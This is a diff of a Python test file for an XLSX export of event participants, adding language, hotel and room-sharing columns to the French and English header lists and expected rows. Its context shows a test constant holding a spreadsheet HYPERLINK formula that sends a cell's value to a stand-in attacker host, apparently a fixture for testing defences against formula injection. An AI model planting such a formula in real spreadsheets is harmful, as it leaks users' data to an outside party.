@@ -52,11 +52,13 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
 
 FR_HEADERS = [
     "Identifiant", "Civilité", "Nom", "Prénom", "Société", "Fonction", "Qualité", "E-mail",
-    "Téléphone", "Langue", "Rôle", "Statut", "Groupes", "Nationalité",
+    "Téléphone", "Langue", "Langues parlées", "Rôle", "Statut", "Groupes", "Nationalité",
+    "Hôtel", "Chambre", "Type de chambre", "Partage la chambre avec",
 ]  # fmt: skip
 EN_HEADERS = [
     "Short name", "Title", "Last name", "First name", "Organisation", "Job title", "Capacity",
-    "E-mail", "Phone", "Language", "Role", "Status", "Groups", "Nationality",
+    "E-mail", "Phone", "Language", "Languages", "Role", "Status", "Groups", "Nationality",
+    "Hotel", "Room", "Room type", "Room-mate",
 ]  # fmt: skip
 FR_PERSONAL = [
     "Date de naissance", "N° passeport", "Pays de délivrance", "Date d'expiration",
@@ -237,8 +239,9 @@ def test_xlsx_export_has_the_coordinators_columns_and_the_missions_groups(
         "Fonction": "Vice-présidente déléguée à l'économie",
         "Qualité": "Première vice-présidente",
         "E-mail": "elodie.martin-dupre@ampmetropole.example", "Téléphone": "+33491123456",
-        "Langue": "fr", "Rôle": "Élu", "Statut": "Confirmé", "Groupes": "Délégation officielle",
-        "Nationalité": "FR",
+        "Langue": "fr", "Langues parlées": None, "Rôle": "Élu", "Statut": "Confirmé",
+        "Groupes": "Délégation officielle", "Nationalité": "FR", "Hôtel": None, "Chambre": None,
+        "Type de chambre": None, "Partage la chambre avec": None,
     }  # fmt: skip
     assert found["O'Connor"]["Groupes"] == "Chefs d'entreprise; Presse"
     assert (found["O'Connor"]["Rôle"], found["O'Connor"]["Statut"]) == (
